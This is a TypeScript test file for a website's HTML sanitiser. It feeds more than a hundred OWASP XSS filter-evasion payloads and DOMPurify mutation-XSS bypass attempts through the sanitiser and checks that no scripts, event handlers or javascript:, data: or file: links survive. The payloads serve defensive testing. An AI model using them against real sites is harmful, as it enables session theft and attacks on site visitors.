import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { createHtmlSanitizer, HTML_ALLOWED } from './index.ts';

/**
 * The OWASP XSS Filter Evasion cheat sheet's payloads (and DOMPurify's known
 * mutation-XSS ones) through the sanitiser: whatever comes out, parsed again
 * as a page parses it (scripting on: `noscript` is raw text there) and as a
 * template does (scripting off), holds only allowed elements in the HTML
 * namespace, only the link attributes, and only addresses whose scheme is
 * http(s), mailto or tel once a browser's URL parser has read them.
 */

const { sanitizeHtml } = createHtmlSanitizer(new JSDOM('').window);

/** A page (scripting on, as where the HTML is shown) and a document with scripting off. */
const scripted = new JSDOM('', { runScripts: 'dangerously' }).window;
const inert = new JSDOM('').window;

const HTML_NS = 'http://www.w3.org/1999/xhtml';
const LINK_ATTRIBUTES = new Set(['href', 'title', 'target', 'rel']);
const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** What in some sanitised HTML could run or load something, as a list of findings (empty: nothing). */
function executable(html: string): string[] {
  const found: string[] = [];
  for (const window of [scripted, inert]) {
    const host = window.document.createElement('div');
    host.innerHTML = html;
    for (const element of host.querySelectorAll('*')) {
      const name = element.localName;
      if (element.namespaceURI !== HTML_NS || !(name in HTML_ALLOWED)) found.push(`element ${name}`);
      for (const attribute of element.attributes) {
        const attr = attribute.name.toLowerCase();
        if (name !== 'a' || !LINK_ATTRIBUTES.has(attr)) found.push(`attribute ${attr} on ${name}`);
        if (attr === 'href') {
          const protocol = new URL(attribute.value, 'https://savdo.uz/news/').protocol;
          if (!SAFE_PROTOCOLS.has(protocol)) found.push(`href ${protocol}`);
        }
        if (attr === 'target' && attribute.value !== '_blank') found.push(`target ${attribute.value}`);
      }
    }
  }
  return found;
}

const js = 'javascript:alert(1)';

/** [name, payload]: each from the cheat sheet or a known DOMPurify bypass attempt. */
const PAYLOADS: readonly (readonly [string, string])[] = [
  // Scripts, in every casing and shape
  ['plain script', '<script>alert(1)</script>'],
  ['odd casing', '<ScRiPt>alert(1)</sCrIpT>'],
  ['external script', '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>'],
  ['script with junk in the name', '<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>'],
  ['script without its end tag', '<SCRIPT SRC=https://xss.rocks/xss.js?< B >'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script after a title', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['quotes before a script', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['regular expression source', '<SCRIPT>alert(/XSS/.source)</SCRIPT>'],
  ['conditional comment', "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"],
  ['script in a comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['CDATA', '<div><![CDATA[<img src=x onerror=alert(1)>]]></div>'],
  // Event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  [
    'img onerror with entities',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
  ],
  ['img onmouseover', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
  ['img with a backtick', '<img src="x`onerror=alert(1)>'],
  ['img with eval of src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['body onload', "<BODY ONLOAD=alert('XSS')>"],
  ['handler with odd characters', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['slash before a handler', '<div/onload=alert(1)>x</div>'],
  ['handler on an allowed tag', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
  ['handler on a link', `<a href="https://savdo.uz" onfocus="alert(1)" autofocus>x</a>`],
  ['input autofocus', '<input onfocus=alert(1) autofocus>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  // javascript: addresses, hidden every way
  ['javascript link', `<a href="${js}">x</a>`],
  ['unquoted', `<a href=${js}>x</a>`],
  ['slash before href', `<a/href="${js}">x</a>`],
  ['odd casing in the scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['leading spaces and control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['NUL in the scheme', '<a href="java\u0000script:alert(1)">x</a>'],
  ['control character first', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['tab entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['newline entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['carriage return entity', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['named newline entity', '<a href="jav&NewLine;ascript:alert(1)">x</a>'],
  ['mixed whitespace', '<a href="j&#x0a;a&#x0d;v&#x09;ascript:alert(1)">x</a>'],
  [
    'decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  [
    'decimal entities without semicolons',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  ],
  [
    'padded decimal entities',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ['hex entities', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>'],
  ['colon entity', '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>'],
  ['hex colon', '<a href="javascript&#x3a;alert(1)">x</a>'],
  ['space before the colon', '<a href="javascript\t:alert(1)">x</a>'],
  ['img javascript src', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['img src with a newline entity', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  ['dynsrc', '<IMG DYNSRC="javascript:alert(\'XSS\')">'],
  ['input image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'],
  ['bgsound', '<BGSOUND SRC="javascript:alert(\'XSS\');">'],
  ['table background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD>x</TD></TR></TABLE>'],
  ['form action', `<form action="${js}"><input type=submit></form>`],
  ['button formaction', `<button formaction="${js}">x</button>`],
  ['duplicate href', `<a href="${js}" href="https://savdo.uz">x</a>`],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['livescript', '<a href="livescript:alert(1)">x</a>'],
  ['file address', '<a href="file:///etc/passwd">x</a>'],
  ['blob address', '<a href="blob:https://savdo.uz/1">x</a>'],
  // data: addresses
  ['data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data link in odd casing', '<a href="  DaTa:text/html,<script>alert(1)</script>">x</a>'],
  ['data img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['embed data', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">'],
  ['object data', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  // SVG and MathML
  ['svg onload', '<svg/onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg link', `<svg><a xlink:href="${js}"><text x="20" y="20">x</text></a></svg>`],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'],
  ['svg script href', '<svg><script xlink:href=data:,alert(1) /></svg>'],
  ['math href', `<math href="${js}">x</math>`],
  ['math maction', `<math><maction actiontype="statusline" xlink:href="${js}">x</maction></math>`],
  ['xlink href on a link', `<a xlink:href="${js}">x</a>`],
  // Frames, objects, style
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe javascript', `<IFRAME SRC="${js}"></IFRAME>`],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['unclosed iframe', '<iframe src=https://xss.rocks/scriptlet.html <'],
  ['frameset', `<FRAMESET><FRAME SRC="${js}"></FRAMESET>`],
  ['object', '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>'],
  ['applet', '<applet code="x.class"><param name="x" value="y"></applet>'],
  ['layer', '<LAYER SRC="https://xss.rocks/scriptlet.html"></LAYER>'],
  [
    'style element',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  ],
  ['style import', "<STYLE>@import 'https://xss.rocks/xss.css';</STYLE>"],
  ['style expression', '<div style="width: expression(alert(\'XSS\'));">x</div>'],
  ['style with a comment in expression', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'],
  ['style background url', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>'],
  ['style behavior', '<XSS STYLE="behavior: url(xss.htc);">x</XSS>'],
  ['escaped expression', 'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>'],
  ['link stylesheet', `<LINK REL="stylesheet" HREF="${js}">`],
  ['br with a script entity', '<BR SIZE="&{alert(\'XSS\')}">'],
  // Document-level elements
  ['base', '<BASE HREF="javascript:alert(\'XSS\');//"><a href="/x">x</a>'],
  ['meta refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
  [
    'meta refresh data',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  ],
  ['meta refresh in the body', '<p>x</p><meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  // Malformed nesting and mutation XSS
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['noembed', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'],
  ['noframes', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">'],
  ['textarea', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ['title', '<title><p title="</title><img src=x onerror=alert(1)>">'],
  ['style in svg', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  [
    'math mglyph svg textarea',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  ],
  ['nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['select template', '<select><template><style><img src=x onerror=alert(1)></style></template></select>'],
  ['table foster parenting', '<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>'],
  ['title attribute breaking out', '<a title="</a><img src=x onerror=alert(1)>">x</a>'],
  ['comment in an attribute', '<a title="--><img src=x onerror=alert(1)>">x</a>'],
  ['end of comment', '<![endif]--><img src=x onerror=alert(1)>'],
  ['unclosed tags', '<b><i><a href="https://savdo.uz">x</b><img src=x onerror=alert(1)'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['DOM clobbering', '<a id="cookie" name="cookie" href="https://savdo.uz">x</a><form name="body"></form>'],
];

describe('the OWASP XSS Filter Evasion payloads', () => {
  it('the check finds what would run when nothing is sanitised', () => {
    expect(executable('<img src=x onerror=alert(1)>')).toContain('attribute onerror on img');
    expect(executable('<a href="jav&#x09;ascript:alert(1)">x</a>')).toContain('href javascript:');
    expect(executable('<a href=" data:text/html,x">x</a>')).toContain('href data:');
    expect(executable('<svg><a>x</a></svg>')).toContain('element svg');
    // Read as a page reads it (scripting on), the noscript's content is text up to the `</noscript>` inside the quotes.
    expect(executable('<p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p>')).toContain(
      'attribute onerror on img',
    );
    expect(executable('<p><b>x</b> <a href="/news" title="t">y</a></p>')).toEqual([]);
  });

  it.each(PAYLOADS)('%s: nothing executable survives', (_name, payload) => {
    const once = sanitizeHtml(payload);
    expect(executable(once)).toEqual([]);
    // Sanitising again changes nothing: what is stored is what is shown.
    expect(sanitizeHtml(once)).toBe(once);
    // Also inside allowed markup.
    const wrapped = sanitizeHtml(`<p>a ${payload} b</p><ul><li>${payload}</li></ul>`);
    expect(executable(wrapped)).toEqual([]);
  });

  it('drops the dangerous elements whole', () => {
    expect(sanitizeHtml('a<ScRiPt>alert(1)</sCrIpT>b')).toBe('ab');
    expect(sanitizeHtml('<img src=x onerror=alert(1)>')).toBe('');
    expect(sanitizeHtml('<p>ok<img src=x onerror=alert(1)></p>')).toBe('<p>ok</p>');
    expect(sanitizeHtml('<svg/onload=alert(1)>x')).toBe('');
    expect(sanitizeHtml('<math><mtext>x</mtext></math>y')).toBe('y');
    expect(sanitizeHtml('<iframe srcdoc="<script>alert(1)</script>"></iframe>ok')).toBe('ok');
    expect(sanitizeHtml('<style>@import "x.css";</style><p>x</p>')).toBe('<p>x</p>');
    expect(sanitizeHtml('<div style="width: expression(alert(1));">x</div>')).toBe('<div>x</div>');
    expect(sanitizeHtml('<BASE HREF="javascript:alert(1);//">x')).toBe('x');
    expect(sanitizeHtml('<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">x')).toBe('x');
    expect(sanitizeHtml('<object data="x"><param name="a" value="b">t</object>ok')).toBe('ok');
    expect(sanitizeHtml('<textarea><b>x</b></textarea>ok')).toBe('ok');
  });

  it('keeps a link without its unsafe address', () => {
    for (const href of [
      'jav&#x09;ascript:alert(1)',
      ' &#14; javascript:alert(1)',
      '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)',
      'javascript&colon;alert(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      'DaTa:text/html,x',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
    ])
      expect(sanitizeHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
    expect(sanitizeHtml('<a href="https://savdo.uz" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://savdo.uz" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="tel:+998901234567" title="Qo‘ng‘iroq">t</a>')).toBe(
      '<a href="tel:+998901234567" title="Qo‘ng‘iroq">t</a>',
    );
  });

  it('mutation XSS through noscript leaves nothing', () => {
    // First in the input, the noscript is read as the head's (scripting off): the paragraph is the body's, bare.
    expect(sanitizeHtml('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')).toBe('<p></p>');
    expect(sanitizeHtml('a<noscript><p title="</noscript><img src=x onerror=alert(1)>">')).toBe('a');
    // xmp is raw text, ended by the `</xmp>` in the quotes: the image after it goes, the rest is text.
    expect(sanitizeHtml('a<xmp><p title="</xmp><img src=x onerror=alert(1)>">')).toBe('a"&gt;');
  });
});
